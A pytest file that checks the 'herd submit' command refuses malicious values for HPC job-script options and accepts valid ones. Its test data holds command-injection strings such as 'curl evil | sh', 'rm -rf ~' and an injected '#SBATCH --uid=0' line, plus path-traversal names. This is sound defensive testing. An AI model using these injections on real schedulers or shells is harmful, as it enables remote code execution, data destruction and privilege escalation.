"""`herd submit` writes only values the scheduler itself accepts into `#SBATCH`/`#PBS` lines,
and never builds a path from raw text: a newline, a space, '/' or '..' is a usage error that
names the option and the rule, before any script is written or submitted."""

from __future__ import annotations

from pathlib import Path

import pytest

from torchherd.cli import main
from torchherd.scheduler.submit import submitted_dir


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HERD_HOME", str(tmp_path / "home"))
    monkeypatch.chdir(tmp_path)
    return tmp_path / "home"


INJECTED = "x\necho pwned > /tmp/pwned"

BAD = [
    ("slurm", ["--name", INJECTED], "--name"),
    ("pbs", ["--name", INJECTED], "--name"),
    ("slurm", ["--name", "../../escape"], "--name"),
    ("slurm", ["--name", "a/b"], "--name"),
    ("slurm", ["--name", "two words"], "--name"),
    ("slurm", ["--partition", "gpu\n#SBATCH --uid=0"], "--partition"),
    ("slurm", ["--partition", "gpu long"], "--partition"),
    ("pbs", ["--queue", "workq\ncurl evil | sh"], "--queue"),
    ("slurm", ["--account", "proj\nrm -rf ~"], "--account"),
    ("pbs", ["--account", "a b"], "--account"),
    ("slurm", ["--output", "out.log\nid"], "--output"),
    ("pbs", ["--output", "my out.log"], "--output"),
    ("pbs", ["--gpu-resource", "ngpus=8:mem=1tb\nid"], "--gpu-resource"),
]


@pytest.mark.parametrize(("scheduler", "typed", "option"), BAD)
def test_values_the_scheduler_would_not_take_are_refused(
    home: Path,
    scheduler: str,
    typed: list[str],
    option: str,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for dry_run in (["--dry-run"], []):
        argv = ["submit", "--scheduler", scheduler, "-N", "2", *dry_run, *typed, "train.py"]
        code = main(argv)
        captured = capsys.readouterr()
        assert code == 2, captured
        assert f"error: {option} " in captured.err and "fix: write it like" in captured.err
        assert "Traceback" not in captured.err
        assert "pwned" not in captured.out  # no script printed
    written = list(submitted_dir().glob("*")) if submitted_dir().exists() else []
    assert written == []
    assert not (home.parent / "escape").exists()


@pytest.mark.parametrize(
    ("scheduler", "typed", "line"),
    [
        ("slurm", ["--name", "gpt2.small_v-1"], "#SBATCH --job-name=gpt2.small_v-1"),
        ("slurm", ["-p", "gpu,gpu-long"], "#SBATCH --partition=gpu,gpu-long"),
        ("slurm", ["-o", "logs/run-%j.out"], "#SBATCH --output=logs/run-%j.out"),
        ("pbs", ["-q", "gpu@pbs1"], "#PBS -q gpu@pbs1"),
        ("pbs", ["-G", "4", "--gpu-resource", "gpu_count"], "gpu_count=4"),
        ("slurm", ["-A", "proj-42"], "#SBATCH --account=proj-42"),
    ],
)
def test_values_the_scheduler_takes_are_written(
    home: Path, scheduler: str, typed: list[str], line: str, capsys: pytest.CaptureFixture[str]
) -> None:
    argv = ["submit", "--scheduler", scheduler, "-N", "2", "--dry-run", *typed, "train.py"]
    assert main(argv) == 0
    assert line in capsys.readouterr().out
